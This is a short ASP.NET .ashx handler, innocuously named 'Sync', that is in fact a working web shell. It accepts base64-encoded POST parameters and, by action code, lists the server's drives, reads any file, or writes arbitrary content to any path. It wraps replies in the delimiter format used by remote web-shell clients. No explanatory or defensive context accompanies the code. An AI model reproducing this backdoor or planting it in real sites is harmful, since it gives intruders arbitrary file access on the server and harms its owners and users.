<%@ WebHandler Language="C#" Class="Sync" %>
using System;
using System.IO;
using System.Text;
using System.Web;

public class Sync : IHttpHandler
{
    public string encoder = "base64";
    public bool IsReusable { get { return false; } }

    public string decode(string s)
    {
        switch (encoder)
        {
            case "base64": return Encoding.UTF8.GetString(Convert.FromBase64String(s));
            default: return s;
        }
    }

    public void ProcessRequest(HttpContext context)
    {
        string act = context.Request.Form["w"];
        string Z1 = decode(context.Request.Form["z1"]);
        string Z2 = decode(context.Request.Form["z2"]);
        string R = "";
        switch (act)
        {
            case "A": R = string.Join(":", Directory.GetLogicalDrives()); break;
            case "C": R = File.ReadAllText(Z1); break;
            case "D": File.WriteAllText(Z1, Z2); R = "1"; break;
        }
        context.Response.Write("\x2D\x3E\x7C" + R + "\x7C\x3C\x2D");
    }
}
